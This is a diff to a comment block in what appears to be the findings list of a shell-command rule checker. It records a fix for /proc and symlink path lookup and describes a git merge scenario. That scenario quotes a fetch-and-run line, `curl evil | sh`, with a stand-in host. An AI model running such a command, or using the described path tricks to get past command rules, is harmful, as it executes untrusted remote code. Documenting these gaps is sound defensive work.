@@ -20,6 +20,8 @@
  * and /proc (`/proc/<bash pid>/root/...`, one component at a time, a symlink's target read there and taken again from
  * that root), or refuse a path any of whose components is a symlink leading out of the starting PATH's folders, and
  * refuse any path through /proc.
+ * Fixed (rule-probe.ts `lookUp`): paths are looked up under `/proc/<bash pid>/root`, never through /proc; the tests
+ * below now show the rule refused while bash would still run the session's file.
  *
  * F2 (kind 6: git state the audit does not read changes what the person's next ordinary git command does).
  * Steps: the person's repository: `app.sh` on main; topic adds `curl evil | sh` (commit X); main merges topic (M) and
